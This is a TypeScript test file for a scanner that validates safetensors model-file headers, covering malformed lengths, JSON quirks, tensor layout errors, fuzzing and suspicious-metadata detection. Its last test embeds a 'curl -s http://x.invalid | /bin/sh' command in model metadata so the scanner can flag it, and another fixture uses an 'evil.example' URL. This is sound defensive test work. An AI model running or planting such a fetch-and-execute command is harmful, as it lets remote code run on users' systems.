import assert from 'node:assert/strict';
import { test } from 'node:test';
import { ParapetError } from '../../src/core/errors.ts';
import { bufferSource } from '../../src/formats/byte-source.ts';
import {
  isSafetensors,
  parseSafetensorsHeader,
  type SafetensorsAnomalyKind,
} from '../../src/formats/safetensors.ts';
import { parseStrictJson } from '../../src/formats/strict-json.ts';
import { scanBytes } from '../../src/scan/engine.ts';
import { mulberry32 } from '../fixtures/prng.ts';
import { buildSafetensors, tinyModel } from '../fixtures/safetensors-writer.ts';

const kinds = (bytes: Uint8Array): SafetensorsAnomalyKind[] =>
  parseSafetensorsHeader(bufferSource(bytes)).anomalies.map((a) => a.kind);

const ONE = (extra: string, dataSize = 8): Uint8Array =>
  buildSafetensors({
    headerText: `{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]${extra}}}`,
    dataSize,
  });

test('an honest file parses with no anomaly and is detected', () => {
  const bytes = tinyModel({ format: 'pt' });
  assert.ok(isSafetensors(bufferSource(bytes)));
  const h = parseSafetensorsHeader(bufferSource(bytes));
  assert.deepEqual(h.anomalies, []);
  assert.deepEqual(
    h.tensors.map((t) => [t.name, t.dtype, t.shape, t.begin, t.end]),
    [
      ['bias', 'F32', [4n], 0n, 16n],
      ['weight', 'F32', [4n, 4n], 16n, 80n],
    ],
  );
  assert.deepEqual(
    h.metadataStrings.map((s) => [s.key, s.value]),
    [['format', 'pt']],
  );
});

test('zero-size tensors, sub-byte dtypes and an empty header are fine', () => {
  assert.deepEqual(kinds(buildSafetensors({ headerText: '{}', dataSize: 0 })), []);
  assert.deepEqual(
    kinds(buildSafetensors({ tensors: [{ name: 'e', dtype: 'F16', shape: [0, 3], offsets: [0, 0] }] })),
    [],
  );
  assert.deepEqual(
    kinds(
      buildSafetensors({ tensors: [{ name: 'q', dtype: 'F4', shape: [6], offsets: [0, 3] }], dataSize: 3 }),
    ),
    [],
  );
});

test('header length past the file or the cap', () => {
  assert.deepEqual(kinds(buildSafetensors({ headerText: '{}', declaredLength: 1000n })), ['header-length']);
  assert.deepEqual(kinds(buildSafetensors({ headerText: '{}', declaredLength: 2n ** 63n })), [
    'header-length',
  ]);
  assert.deepEqual(kinds(new Uint8Array(5)), ['header-length']);
});

test('a lying header length is still detected when the JSON looks like safetensors', () => {
  const bytes = buildSafetensors({
    headerText: '{"__metadata__":{"format":"pt"}}',
    declaredLength: 2n ** 40n,
  });
  assert.ok(isSafetensors(bufferSource(bytes)));
});

test('duplicate keys at every level, lone surrogates, invalid JSON and UTF-8', () => {
  assert.deepEqual(kinds(ONE(',"dtype":"F64"')), ['duplicate-key']);
  assert.deepEqual(
    kinds(buildSafetensors({ headerText: '{"__metadata__":{"a":"1","a":"2"}}', dataSize: 0 })),
    ['duplicate-key'],
  );
  assert.deepEqual(kinds(buildSafetensors({ headerText: '{"__metadata__":{"a":"\\ud800"}}', dataSize: 0 })), [
    'lone-surrogate',
  ]);
  assert.deepEqual(kinds(buildSafetensors({ headerText: '{"a":1,}', dataSize: 0 })), ['invalid-json']);
  assert.deepEqual(kinds(buildSafetensors({ headerText: '{"a":NaN}', dataSize: 0 })), ['invalid-json']);
  assert.deepEqual(kinds(buildSafetensors({ headerText: '{} \u0000', dataSize: 0 })), ['invalid-json']);
  const bad = buildSafetensors({ headerText: '{"a":"xx"}', dataSize: 0 });
  bad[14] = 0xff;
  assert.deepEqual(kinds(bad), ['invalid-utf8']);
  assert.deepEqual(kinds(buildSafetensors({ headerText: '[1]', dataSize: 0 })), [
    'not-an-object',
    'not-an-object',
  ]);
});

test('entry and metadata structure', () => {
  assert.deepEqual(kinds(buildSafetensors({ headerText: '{"w":[1]}', dataSize: 0 })), ['bad-entry']);
  assert.deepEqual(kinds(buildSafetensors({ headerText: '{"w":{"dtype":"F32"}}', dataSize: 0 })), [
    'bad-entry',
  ]);
  assert.deepEqual(kinds(buildSafetensors({ headerText: '{"__metadata__":{"n":1}}', dataSize: 0 })), [
    'bad-metadata',
  ]);
});

test('dtype, shape and offsets consistency', () => {
  assert.deepEqual(
    kinds(
      buildSafetensors({ headerText: '{"w":{"dtype":"F31","shape":[2],"data_offsets":[0,8]}}', dataSize: 8 }),
    ),
    ['unknown-dtype'],
  );
  assert.deepEqual(
    kinds(
      buildSafetensors({
        headerText: '{"w":{"dtype":"F32","shape":[-2],"data_offsets":[0,8]}}',
        dataSize: 8,
      }),
    ),
    ['bad-shape'],
  );
  assert.deepEqual(
    kinds(
      buildSafetensors({
        headerText: '{"w":{"dtype":"F32","shape":[2.0],"data_offsets":[0,8]}}',
        dataSize: 8,
      }),
    ),
    ['bad-shape'],
  );
  assert.deepEqual(
    kinds(
      buildSafetensors({ headerText: '{"w":{"dtype":"F32","shape":[2],"data_offsets":[8,0]}}', dataSize: 8 }),
    ),
    ['bad-offsets'],
  );
  assert.deepEqual(
    kinds(buildSafetensors({ tensors: [{ name: 'w', dtype: 'F32', shape: [3], offsets: [0, 8] }] })),
    ['size-mismatch'],
  );
  // A shape whose product overflows u64 is a mismatch, not a crash.
  assert.deepEqual(
    kinds(
      buildSafetensors({
        headerText:
          '{"w":{"dtype":"F32","shape":[18446744073709551615,18446744073709551615],"data_offsets":[0,8]}}',
        dataSize: 8,
      }),
    ),
    ['size-mismatch'],
  );
});

test('layout: out of bounds, overlap, gaps and trailing bytes', () => {
  assert.deepEqual(
    kinds(
      buildSafetensors({ tensors: [{ name: 'w', dtype: 'F32', shape: [4], offsets: [0, 16] }], dataSize: 8 }),
    ),
    ['out-of-bounds'],
  );
  assert.deepEqual(
    kinds(
      buildSafetensors({
        tensors: [
          { name: 'a', dtype: 'F32', shape: [2], offsets: [0, 8] },
          { name: 'b', dtype: 'F32', shape: [2], offsets: [4, 12] },
        ],
      }),
    ),
    ['overlap'],
  );
  assert.deepEqual(
    kinds(buildSafetensors({ tensors: [{ name: 'w', dtype: 'F32', shape: [2], offsets: [8, 16] }] })),
    ['gap'],
  );
  assert.deepEqual(
    kinds(buildSafetensors({ tensors: [{ name: 'w', dtype: 'F32', shape: [2] }], dataSize: 64 })),
    ['gap'],
  );
  // Huge offsets keep their precision (bigint), and are out of bounds.
  assert.deepEqual(
    kinds(
      buildSafetensors({
        headerText: '{"w":{"dtype":"U8","shape":[1],"data_offsets":[9007199254740993,9007199254740994]}}',
        dataSize: 0,
      }),
    ),
    ['out-of-bounds'],
  );
});

test('detector: random-looking and text inputs are not safetensors', () => {
  const enc = new TextEncoder();
  for (const s of ['{"a": 1, "dtype": 2}', 'hello world, this is text', '\x80\x02}q\x00.']) {
    assert.equal(isSafetensors(bufferSource(enc.encode(s))), false, s);
  }
  assert.equal(isSafetensors(bufferSource(new Uint8Array(4096))), false);
});

test('scan: findings at the documented severities', async () => {
  const url = await scanBytes(tinyModel({ homepage: 'see https://evil.example/x' }), 'm.safetensors');
  assert.deepEqual(url.scanned, ['m.safetensors']);
  assert.deepEqual(
    url.findings.map((f) => [f.ruleId, f.severity]),
    [['model/safetensors-suspicious-metadata', 'medium']],
  );
  const gap = await scanBytes(
    buildSafetensors({ tensors: [{ name: 'w', dtype: 'F32', shape: [2] }], dataSize: 64 }),
    'g',
  );
  assert.deepEqual(
    gap.findings.map((f) => [f.ruleId, f.severity]),
    [['model/safetensors-inconsistent-tensors', 'medium']],
  );
  const clean = await scanBytes(tinyModel({ format: 'pt', thumbnail: 'data:image/png;base64,AAAA' }), 'c');
  assert.deepEqual(clean.findings, []);
  assert.deepEqual(clean.errors, []);
});

test('strict JSON: node cap throws ParapetError LIMIT, deep nesting is a syntax error', () => {
  assert.throws(
    () => parseStrictJson('[1,2,3,4,5]', 3),
    (e) => e instanceof ParapetError && e.code === 'LIMIT',
  );
  assert.match(parseStrictJson(`${'['.repeat(200)}${']'.repeat(200)}`, 1000).error?.detail ?? '', /nesting/);
  const p = parseStrictJson('{"a":"\\u0061\\ud83d\\ude00","a":1}', 100);
  assert.equal(p.quirks.length, 1);
  assert.equal(p.root?.kind, 'object');
});

test('mutation fuzz: 2000 seeded mutants never reject scanBytes, parsers return or throw ParapetError', async () => {
  const rand = mulberry32(0x5afe7e45);
  const seeds = [
    tinyModel({ format: 'pt', url: 'https://example.com/x' }),
    ONE(''),
    buildSafetensors({
      headerText: '{"__metadata__":{"a":"b"},"x":{"dtype":"BF16","shape":[1,2],"data_offsets":[0,4]}}',
      dataSize: 4,
    }),
  ];
  for (let i = 0; i < 2000; i++) {
    const base = seeds[i % seeds.length]!;
    const bytes = base.slice();
    const edits = 1 + Math.floor(rand() * 4);
    for (let e = 0; e < edits; e++) {
      const at = Math.floor(rand() * bytes.length);
      const r = rand();
      if (r < 0.6) bytes[at] = Math.floor(rand() * 256);
      else if (r < 0.8) bytes[at] = '{}[]",:0123456789-e.\\u'.charCodeAt(Math.floor(rand() * 23));
      else bytes[Math.floor(rand() * 8)] = Math.floor(rand() * 256);
    }
    const cut = rand() < 0.2 ? bytes.subarray(0, Math.floor(rand() * bytes.length)) : bytes;
    const src = bufferSource(cut);
    for (const call of [() => isSafetensors(src), () => parseSafetensorsHeader(src)]) {
      try {
        call();
      } catch (err) {
        assert.ok(err instanceof ParapetError, `case ${i}: ${String(err)}`);
      }
    }
    await scanBytes(cut, `fuzz-${i}.safetensors`);
  }
});

/**
 * The header length is attacker-chosen: 0x9c78 bytes reads as a zlib header, 0x280280 as `\x80\x02(` (a
 * pickle). Binary formats are detected before those signatures, so the file is still read as safetensors.
 */
for (const length of [0x9c78, 0x280280]) {
  test(`header length 0x${length.toString(16)} is still scanned as safetensors`, async () => {
    const text =
      '{"__metadata__":{"u":"curl -s http://x.invalid | /bin/sh"},"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}';
    const r = await scanBytes(
      buildSafetensors({ headerText: text.padEnd(length, ' '), dataSize: 8 }),
      'm.safetensors',
    );
    assert.ok(r.findings.some((f) => f.ruleId === 'model/safetensors-suspicious-metadata'));
  });
}
